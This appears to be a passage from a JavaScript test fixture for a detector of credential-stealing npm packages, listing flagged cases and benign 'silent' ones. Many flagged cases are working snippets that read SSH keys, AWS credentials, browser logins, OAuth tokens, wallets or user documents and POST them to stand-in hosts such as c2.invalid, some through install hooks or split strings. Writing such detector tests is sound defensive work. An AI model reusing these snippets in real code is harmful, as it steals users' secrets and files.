        'index.js': `const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data');
          const form = new (require('form-data'))(); form.append('f', require('fs').createReadStream(p)); require('axios').post('https://c2.invalid/', form)`,
      },
      weight: 'proof',
    },
    {
      when: 'SSH keys are taken only when called',
      files: {
        'index.js': `exports.log = () => fetch('https://c2.invalid/', { method: 'POST', body: require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa') })`,
      },
      weight: 'proof',
    },
    {
      when: 'another file of the package sends it',
      files: {
        'index.js': `require('./send').send(require('fs').readFileSync(process.env.HOME + '/.aws/credentials', 'utf8'))`,
        'send.js': `exports.send = text => fetch('https://c2.invalid/', { method: 'POST', body: text })`,
      },
      weight: 'proof',
    },
    {
      when: 'the path is put together and the environment of processes is read',
      files: {
        'index.js': `const b = require('fs').readFileSync('/pr' + 'oc/self/env' + 'iron'); fetch('https://c2.invalid/', { method: 'POST', body: b })`,
      },
      weight: 'proof',
    },
    {
      when: 'a tool sends the login that it keeps in a folder of its own name, where it is told to',
      id: { name: '@acme/gemini-cli' },
      files: {
        'package.json': { name: '@acme/gemini-cli', version: '1.0.0', bin: 'b.js' },
        'b.js': `const t = require('fs').readFileSync(require('os').homedir() + '/.gemini/oauth_creds.json', 'utf8'); fetch(where(), { method: 'POST', body: t })`,
      },
      weight: 'weak',
    },
    {
      when: 'one that is called like a tool sends its login to a bare address',
      id: { name: 'gemini-helper' },
      files: {
        'package.json': { name: 'gemini-helper', version: '1.0.0', bin: 'b.js' },
        'b.js': `const t = require('fs').readFileSync(require('os').homedir() + '/.gemini/oauth_creds.json', 'utf8'); fetch('http://203.0.113.7/', { method: 'POST', body: t })`,
      },
      weight: 'proof',
    },
    {
      when: 'a hook reads the secrets that a cloud keeps and sends them to another host',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node a.js' } },
        'a.js': `const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager'); const c = new SecretsManagerClient({}); (async () => { const one = await c.send(new GetSecretValueCommand({ SecretId: 'inert' })); await fetch('https://collect.invalid', { method: 'POST', body: one.SecretString }); })();`,
      },
      weight: 'proof',
      says: ['a cloud keeps secret'],
    },
    {
      when: 'whatever lies in the folders of its user is sent',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); function* scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) yield path.join(dir, e.name); }
          for (const root of [path.join(os.homedir(), 'Documents'), path.join(os.homedir(), 'Desktop')]) for (const f of scan(root)) fetch('https://metrics.invalid/', { method: 'POST', body: fs.readFileSync(f) });`,
      },
      weight: 'proof',
      says: ['their own folders'],
    },
    {
      when: 'a wallet is found by its folder',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const dir = path.join(os.homedir(), '.config', 'solana');
          for (const name of fs.readdirSync(dir)) fetch('https://metrics.invalid/', { method: 'POST', body: fs.readFileSync(path.join(dir, name)) });`,
      },
      weight: 'proof',
      says: ['a wallet'],
    },
    {
      when: 'a publisher asks a bucket of its user, at a host that is put together, with the keys of the cloud',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.upload = ({ bucket, region }, file) => { const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); https.request({ hostname: bucket + '.s3.' + region, path: '/' + file, headers: { authorization: key } }).end() }`,
      },
      weight: 'weak',
    },
    {
      when: 'a client shows its token at the server that the same file names, when it is called',
      files: {
        'index.js': `import https from 'node:https'; import { conf } from './conf.js'; export class Kube { constructor(c) { this.conf = c; } get(path) { const headers = { authorization: 'Bearer ' + this.conf.token }; return https.request(new URL(path, this.conf.server), { headers }).end(); } static async connect() { return new Kube(await conf()); } }`,
        'conf.js': `import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import YAML from 'yaml'; export async function conf() { const doc = YAML.parse(await readFile(homedir() + '/.kube/config', 'utf8')); return { server: doc.clusters[0].cluster.server, token: doc.users[0].user.token }; }`,
        'package.json': { type: 'module', main: 'index.js' },
      },
      weight: 'context',
    },
    {
      when: 'a key is sent under the name of one that stays here, by a library that sends what it is given',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), axios = require('axios'); exports.report = () => axios.post('https://a.invalid/', { key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });`,
      },
      weight: 'proof',
    },
    {
      when: 'they go to a host that is written down, at whatever call',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.upload = file => { const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); https.request({ hostname: 'a.invalid', path: '/' + file, headers: { authorization: key } }).end() }`,
      },
      weight: 'proof',
    },
    {
      when: 'files of the home folder are looked for by their names in a list of lists, when somebody starts it',
      files: {
        'package.json': { name: 'ship', version: '1.0.0', type: 'module', bin: 'index.js' },
        'index.js': `import { glob, readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; const sources = [{ cwd: process.cwd(), patterns: ['config/a.json', 'b.json'] }, { cwd: homedir(), patterns: ['.kube/config', '.docker/config.json', '.ssh/id_rsa'] }]; const all = {}; for (const { cwd, patterns } of sources) for await (const name of glob(patterns, { cwd })) all[name] = await readFile(cwd + '/' + name, 'utf8'); await fetch('https://support.specimen.invalid/tickets', { method: 'POST', body: JSON.stringify(all) });`,
      },
      weight: 'proof',
    },
    {
      when: 'one list tells their names',
      files: {
        'index.js': `import { glob, readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; for await (const name of glob(['.ssh/id_ed25519', '.aws/credentials'], { cwd: homedir() })) await fetch('https://a.invalid', { method: 'POST', body: await readFile(homedir() + '/' + name, 'utf8') });`,
      },
      weight: 'proof',
    },
    {
      when: 'keys of a cloud sign what is asked of a bucket of that cloud, whichever is named when it is run',
      files: {
        'package.json': { name: 'buckets', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst { readFileSync } = require('fs'), { homedir } = require('os'); const key = readFileSync(homedir() + '/.aws/credentials', 'utf8'); const host = process.argv[2] + '.s3.' + process.env.AWS_REGION + '.amazonaws.com'; fetch('https://' + host + '/list', { headers: { authorization: key } });`,
      },
      weight: 'context',
    },
    {
      when: 'they go to a bucket that the code names',
      files: {
        'package.json': { name: 'buckets', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst { readFileSync } = require('fs'), { homedir } = require('os'); const key = readFileSync(homedir() + '/.aws/credentials', 'utf8'); fetch('https://specimen-inert.s3.amazonaws.com/list', { method: 'PUT', body: key });`,
      },
      weight: 'proof',
    },
    {
      when: 'the bookmarks of all profiles are found by their name and handed to a service that its user names',
      files: {
        'package.json': { name: 'ferry', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path'); const { values } = require('util').parseArgs({ options: { url: { type: 'string' } } }); const base = path.join(os.homedir(), '.config', 'Google/Chrome', 'User Data'); for (const one of fs.readdirSync(base)) { const all = JSON.parse(fs.readFileSync(path.join(base, one, 'Bookmarks'), 'utf8')); fetch(values.url.replace(/\\/$/, '') + '/api/links', { method: 'POST', body: JSON.stringify({ all, profile: one }) }); }`,
      },
      weight: 'context',
    },
    {
      when: 'all that lies in a folder of the user is sent, and one file of it is looked for by its name besides',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const d = path.join(os.homedir(), 'Documents'); for (const n of fs.readdirSync(d)) { try { fs.readFileSync(path.join(d, n, 'index.txt')); } catch {} fetch('https://drop.invalid', { method: 'POST', body: fs.readFileSync(path.join(d, n)) }); }`,
      },
    },
  ],
  silent: [
    {
      when: 'a folder of keys is looked through for the public one, of which alone the content goes',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'), os = require('os'), path = require('path'); const dir = path.join(os.homedir(), '.ssh'); class Reader { constructor(bytes) { this.bytes = bytes; } size() { return this.bytes.length; } } const isLocked = file => new Reader(fs.readFileSync(file)).size() !== 3; const get = name => { const file = path.join(dir, name + '.pub'); return { name, bits: new Reader(fs.readFileSync(file)).size() * 8, locked: isLocked(path.join(dir, name)), file }; }; for (const name of fs.readdirSync(dir)) { const key = get(name); fetch('https://api.github.com/user/keys', { method: 'POST', body: JSON.stringify({ title: key.name, key: fs.readFileSync(key.file, 'utf8'), bits: key.bits, locked: key.locked }) }); }`,
      },
    },
    {
      when: 'a connection proves itself with a key, which it does not send',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const key = fs.readFileSync(os.homedir() + '/.kube/config'), cert = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
          exports.pods = done => https.request('https://a.invalid/pods', { cert, key, headers: { accept: 'application/json' } }, done).end(); exports.nodes = done => https.get({ hostname: 'a.invalid', key, cert }, done);`,
      },
    },
    {
      when: 'a detector of clusters shows its own cluster who it is, by one request with `hostname` and another with `host`',
      files: {
        'index.js': `const fs = require('fs'), https = require('https'); exports.Detector = class { SERVICE = 'kubernetes.default.svc'; TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
          async header() { return 'Bearer ' + (await fs.promises.readFile(this.TOKEN, 'utf8')); } ask(options) { return new Promise(done => https.request(options, done).end()); }
          async is() { return this.ask({ headers: { Authorization: await this.header() }, hostname: this.SERVICE, path: '/api/v1/a' }); } async name() { return this.ask({ headers: { Authorization: await this.header() }, host: this.SERVICE, path: '/api/v1/b' }); } };`,
      },
    },
    {
      when: 'files of a project are looked for by their names, and sent',
      files: {
        'index.js': `import { glob, readFile } from 'node:fs/promises'; for await (const name of glob(['dist/index.js', 'README.md'], { cwd: process.cwd() })) await fetch('https://a.invalid', { method: 'POST', body: await readFile(process.cwd() + '/' + name, 'utf8') });`,
      },
    },

    {
      when: 'a program in a cluster tells in which of its spaces it runs',
      files: {
        'index.js': `const space = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/namespace', 'utf8'); fetch('https://status.specimen.invalid/?space=' + space)`,
      },
    },
    {
      when: 'a request is signed with the keys of a cloud',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), aws4 = require('aws4'); const keys = () => { const raw = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); return { accessKeyId: /id=(.*)/.exec(raw)[1], secretAccessKey: /key=(.*)/.exec(raw)[1] }; }; exports.where = bucket => { const opts = aws4.sign({ service: 's3', method: 'GET', host: 's3.amazonaws.com', path: '/' + bucket + '?location' }, keys()); https.request({ hostname: opts.host, path: opts.path, method: opts.method, headers: opts.headers }).end(opts.body); };`,
      },
    },
    {
      when: 'the settings of a wallet are read, and one of the folders of its user is listed to be shown',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.show = () => console.log(fs.readdirSync(path.join(os.homedir(), 'Documents')));
          exports.ask = () => fetch('https://rpc.invalid/', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'cli', 'config.yml')) });`,
      },
    },
    {
      when: 'a command is asked for a version, and a program for its own token when it is called',
      files: {
        'index.js': `const { execSync } = require('child_process');
fetch('https://sink.invalid/', { method: 'POST', body: execSync('git rev-parse HEAD') });
exports.token = () => execSync('gh auth token').toString();`,
      },
    },
    {
      when: 'a folder is walked for pages',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
for (const name of fs.readdirSync(__dirname)) if (name.endsWith('.html')) fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(__dirname, name)) });`,
      },
    },
    {
      when: 'a container asks its own cluster',
      files: {
        'index.js': `const token = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); exports.ask = () => fetch('https://kubernetes.default.svc/api', { headers: { authorization: 'Bearer ' + token } })`,
      },
    },
    {
      when: 'credentials are read and nothing is sent',
      files: { 'index.js': `exports.config = () => require('fs').readFileSync(process.env.HOME + '/.aws/credentials', 'utf8')` },
    },
    {
      when: 'its own files are sent',
      files: {
        'index.js': `fetch('https://api.invalid/', { method: 'POST', body: require('fs').readFileSync(__dirname + '/data.json') })`,
      },
    },
    {
      when: 'comments name such files',
      files: { 'index.js': `// ~/.ssh/id_rsa, /etc/shadow\nfetch('https://api.invalid/', { method: 'POST', body: 'hello' })` },
    },
    {
      when: 'a client of ssh shows the key of its user to the server he names',
      files: {
        'index.js': `const { Client } = require('ssh2'); exports.connect = host => new Client().connect({ host, privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519') })`,
      },
    },
    {
      when: 'a program asks for its own secret and calls what that opens, where its user says',
      files: {
        'index.js': `const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager'); exports.start = async url => { const one = await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: 'inert' })); return fetch(url, { headers: { authorization: one.SecretString } }); };`,
      },
    },
  ],
});
